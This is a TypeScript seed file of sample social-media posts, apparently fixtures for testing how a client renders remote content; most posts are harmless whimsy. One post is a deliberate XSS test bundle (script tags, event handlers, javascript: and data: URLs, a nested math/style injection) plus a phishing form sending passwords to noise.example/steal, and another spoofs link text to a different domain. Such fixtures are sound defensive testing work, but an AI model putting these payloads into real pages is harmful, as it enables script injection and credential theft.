import type { SeedPost } from "../types.ts";

const letter = [
  "This week our correspondent was sent to find out how long it takes to cross the town on foot if you stop for every conversation that is offered. The distance is three kilometres and two hundred metres. The answer is nine hours and a quarter, and she wishes it to be known that she skipped two.",
  "The first conversation took place at the bakery, which opens at six. The baker, who has been awake since two, believes that the day is already over and treats everybody as a late visitor. He gave our correspondent a roll, told her that the river was up, that the mayor was down, and that his daughter had learned to whistle with two fingers and could not be persuaded to stop. By then it was half past six.",
  "At the bridge a man was counting bicycles for the council. He had been given a form with three columns: bicycles, bicycles with trailers, and other. The column of others was by far the longest. It contained a unicycle, a bed on wheels, a person carrying a bicycle, a person carrying a person, and a goose. He had written the goose down twice, because it came back.",
  "Between the bridge and the market there are eleven benches, and on each of them somebody was waiting for something. We asked what. A bus, a sister, the rain to start, the rain to stop, a parcel, a reason, noon. One woman said that she was not waiting at all, she was simply early for tomorrow. Our correspondent sat down with her for a while to see how it was done.",
  "The market, as always, was an argument about tomatoes. It has been the same argument for thirty years and it has by now become so refined that a stranger hears only politeness. “Yours look well,” says one stall to the other, and the regulars wince. At a quarter past one a bell rings, the argument is put away under a cloth until Saturday, and both sides have lunch together, because their grandchildren are married.",
  "In the afternoon the town grows quieter and the conversations grow longer. A piano tuner explained why he never plays for guests: he hears only the strings that he will have to come back for. A postwoman explained that she does read the postcards, that everybody knows, and that several people now add a line for her at the bottom. A boy explained the rules of a game that had eleven kinds of goal and no ball. Our correspondent lost, but narrowly.",
  "She reached the far end of town at a quarter past five. There is nothing there but a gate, a field and a sign that says that the field is private and that the view is not. She looked at the view. Then she took the tram home, which needs eleven minutes and in which nobody said a word, and wrote this down while it was still warm.",
  "Next week: a complete list of things that have been left on the tram, and of those that have come back for their owners.",
];

/** Posts as other servers send them: well formed, overlong, or up to no good. */
export const remote: readonly SeedPost[] = [
  {
    key: "night-buses",
    by: "gazette@slow.example",
    minutesAgo: 38,
    html: '<p>In praise of the last bus: who is on it, what they are carrying, and why the driver knows all their names.</p><p>Read it slowly: <a href="https://slow.example/letters/the-last-bus" rel="nofollow noopener noreferrer" target="_blank"><span class="invisible">https://</span><span class="ellipsis">slow.example/letters/the-last-</span><span class="invisible">bus</span></a></p>',
    card: {
      url: "https://slow.example/letters/the-last-bus",
      title: "The last bus, and everyone on it",
      description:
        "Every night at ten past one, line 14 leaves the harbour with eleven people and a cello. A letter from the back seat.",
      image: "city-0",
    },
    favourites: 52,
    boosts: 19,
  },
  {
    key: "long-letter",
    by: "gazette@slow.example",
    minutesAgo: 1005,
    html: letter.map(paragraph => `<p>${paragraph}</p>`).join(""),
    favourites: 113,
    boosts: 45,
    language: "en",
  },
  {
    key: "hedge-notes",
    by: "wren@brambles.example",
    minutesAgo: 365,
    html: "<p>Notes from the hedge, <strong>morning edition</strong>:</p><ul><li>two goldcrests, arguing</li><li>one hedgehog, <em>late</em></li><li>blackberries: <del>ripe</del> gone</li></ul><blockquote><p>A hedge is a town that happens to be thin.</p></blockquote><ol><li>Put the kettle on.</li><li>Go back out.</li></ol>",
    favourites: 40,
    boosts: 12,
  },
  {
    key: "code",
    by: "jisu@hangang.example",
    minutesAgo: 485,
    html: '<p>found in production, next to a comment that just says <code>sorry</code>:</p><pre><code class="language-ts">function isEven(n: number): boolean {\n  if (n === 0) return true;\n  if (n === 1) return false;\n  // works on my machine, slowly\n  return isEven(n - 2); // TODO: ask somebody about negative numbers before the next release, please\n}</code></pre><p>it has a test. the test is for 4.</p>',
    favourites: 96,
    boosts: 38,
  },
  {
    key: "hostile",
    by: "static@noise.example",
    minutesAgo: 560,
    html: '<p onclick="alert(1)" style="position:fixed;inset:0;background:red">If you can read this and nothing popped up, your client is sturdy.</p><script>alert("script")</script><img src="x" onerror="alert(1)"><svg onload="alert(1)"><a href="#"><text>svg</text></a></svg><iframe src="javascript:alert(1)"></iframe><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><form action="https://noise.example/steal"><input name="password" placeholder="Your password"><button>Sign in</button></form><p id="root" class="modal">Have a <a href="javascript:alert(1)">nice</a> <a href="data:text/html,<script>alert(1)</script>">day</a>.</p>',
    favourites: 3,
  },
  {
    key: "misleading-link",
    by: "static@noise.example",
    minutesAgo: 1055,
    html: '<p>Totally the website of the library: <a href="https://noise.example/not-a-library" rel="nofollow noopener" target="_blank">https://library.example/opening-hours</a>, and this is certainly a mention: <a href="https://noise.example/gotcha" class="mention">@alice</a></p>',
  },
  {
    key: "nothing-to-see",
    by: "static@noise.example",
    minutesAgo: 1610,
    text: "\u200b\u200d\u2060\ufeff",
  },
  {
    key: "unbroken",
    by: "archie@duckpond.example",
    minutesAgo: 1260,
    text: "Minutes of the duck pond committee, verbatim: QUAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAACK\n\nAttachment: https://duckpond.example/committee/minutes/2026/autumn/extraordinary-session/appendix-c/statements-by-the-goose-unabridged-and-translated.html?version=final-final&pages=all#page-117",
    favourites: 24,
    boosts: 8,
  },
  {
    key: "quoting-ducks",
    by: "theo@kettle.example",
    minutesAgo: 292,
    quoteOf: "duck-rules",
    text: "Framing this and hanging it in the kitchen. Rule three applies to my children as well.",
    favourites: 20,
    boosts: 2,
  },
];
